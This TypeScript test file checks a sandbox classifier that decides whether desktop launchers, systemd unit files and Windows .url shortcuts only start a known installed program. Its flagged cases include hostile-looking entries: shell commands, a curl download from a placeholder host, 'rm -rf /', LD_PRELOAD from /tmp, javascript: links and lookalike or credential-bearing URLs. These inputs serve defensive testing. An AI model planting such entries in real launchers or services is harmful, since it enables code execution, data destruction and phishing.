import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { identify } from '../sandbox-runner/identify.ts';
import { isPassive } from '../sandbox-runner/passive.ts';
import { parse } from '../sandbox-runner/static/parse.ts';
import { isPlainCommand } from '../sandbox-runner/static/plain-command.ts';

async function isStill(fileName: string, text: string): Promise<boolean> {
  const bytes = Buffer.from(text);
  const identity = await identify(bytes, fileName);
  return isPassive(identity, bytes, fileName, await parse(identity, bytes, fileName));
}
const launcher = (more: string) => `[Desktop Entry]\nType=Application\nName=Editor\nName[de]=Schreiber\nIcon=editor\n${more}\n`;
const unit = (more: string) => `[Unit]\nDescription=Greenhouse\nAfter=network.target\n\n[Service]\nUser=www-data\n${more}\n\n[Install]\nWantedBy=multi-user.target\n`;
const link = (more: string) => `[InternetShortcut]\r\nURL=${more}\r\n`;

describe('what only says which installed program is started acts no more than that program', () => {
  test.each([
    ['a.desktop', launcher('Exec=mousepad %F\nTryExec=mousepad\nTerminal=false\nCategories=Utility;')],
    ['a.desktop', launcher('Exec=/usr/bin/evince --preview %u\n\n[Desktop Action New]\nName=New\nExec=evince --new-window')],
    ['a.service', unit('Type=notify\nExecStart=/usr/sbin/openvpn --daemon ovpn-%i --status /run/openvpn/%i.status 10 --cd /etc/openvpn')],
    ['a.service', unit('EnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nRestart=always')],
    ['a.timer', '[Unit]\nDescription=Daily\n[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n'],
    ['a.socket', '[Unit]\nDescription=a\n[Socket]\nListenStream=80\nService=lighttpd.service\n'],
    ['a.url', `${link('https://www.example.org/library/catalogue?lang=en')}IconIndex=0\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n`],
    ['a.url', '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://www.example.org/\r\nIDList=\r\n'],
  ])('%s', async (name, text) => expect(await isStill(name, text)).toBe(true));

  test.each([
    ['a shell', 'a.desktop', launcher('Exec=sh -c "id"')],
    ['a shell by its folder', 'a.service', unit('ExecStart=/usr/bin/bash /opt/x')],
    ['an interpreter', 'a.service', unit('ExecStart=/usr/bin/python3 /opt/greenhouse/main.py')],
    ['a program of nobody knows whom', 'a.service', unit('ExecStart=/opt/x/run')],
    ['a program in a folder of everybody', 'a.desktop', launcher('Exec=/tmp/.x/run')],
    ['a program by a way around', 'a.service', unit('ExecStart=/usr/bin/../../tmp/x')],
    ['a command behind a terminal', 'a.desktop', launcher('Exec=xterm -e id')],
    ['a program that fetches', 'a.service', unit('ExecStart=/usr/bin/curl -O http://a.example/x')],
    ['a place to fetch from', 'a.desktop', launcher('Exec=viewer http://a.example/x')],
    ['signs of a shell', 'a.desktop', launcher('Exec=viewer a;id')],
    ['a second command', 'a.service', unit('ExecStart=/usr/sbin/sshd -D\nExecStopPost=/bin/sh -c id')],
    ['a library put before its own', 'a.service', unit('Environment=LD_PRELOAD=/tmp/x.so\nExecStart=/usr/sbin/sshd -D')],
    ['settings from a folder of everybody', 'a.service', unit('EnvironmentFile=/tmp/x\nExecStart=/usr/sbin/sshd -D')],
    ['another root', 'a.service', unit('RootDirectory=/tmp/x\nExecStart=/usr/sbin/sshd -D')],
    ['a line that is no entry', 'a.service', unit('rm -rf /')],
    ['a section that is none', 'a.service', `${unit('ExecStart=/usr/sbin/sshd')}[Shell]\na=b\n`],
    ['a link', 'a.desktop', '[Desktop Entry]\nType=Link\nURL=http://a.example/\n'],
    ['a folder to start in', 'a.desktop', launcher('Exec=viewer\nPath=/tmp/x')],
    ['a mount', 'a.mount', '[Mount]\nWhat=//host/share\nWhere=/mnt\nType=cifs\n'],
    ['a program behind the link', 'a.url', link('https://www.example.org/setup.exe')],
    ['a share', 'a.url', link('file://server/share/a.lnk')],
    ['a number for a host', 'a.url', link('http://10.1.2.3/page')],
    ['another port', 'a.url', link('http://www.example.org:8443/page')],
    ['a name in two alphabets', 'a.url', link('https://www.exаmple.org/')],
    ['an account', 'a.url', link('https://bank.example@www.example.org/')],
    ['a way on', 'a.url', link('https://www.example.org/go?to=https://other.example/')],
    ['an icon of a share', 'a.url', `${link('https://www.example.org/')}IconFile=\\\\server\\a.ico\r\n`],
    ['a folder of a share', 'a.url', `${link('https://www.example.org/')}WorkingDirectory=\\\\server\\share\r\n`],
    ['a script', 'a.url', link('javascript:alert(1)')],
  ])('not with %s (%s)', async (_what, name, text) => expect(await isStill(name, text)).toBe(false));

  test('no sign of a shell is plain, wherever it stands', () => {
    const sign = fc.constantFrom(...';|&`<>(){}\\\'"*?[]!~#^\n\t\r\0$'.split(''));
    fc.assert(fc.property(fc.stringMatching(/^[a-z ]{0,20}$/), sign, fc.stringMatching(/^[a-z ]{0,20}$/), (before, one, after) => {
      const command = `/usr/bin/viewer ${before}${one}${after}`;
      // A whole word of the environment is put in by systemd itself, and is no sign of a shell.
      fc.pre(one !== '$' || !/(?:^| )\$[a-z]+(?: |$)/.test(command));
      expect(isPlainCommand(command, true), command).toBe(false);
    }), { numRuns: 3_000 });
  });
});
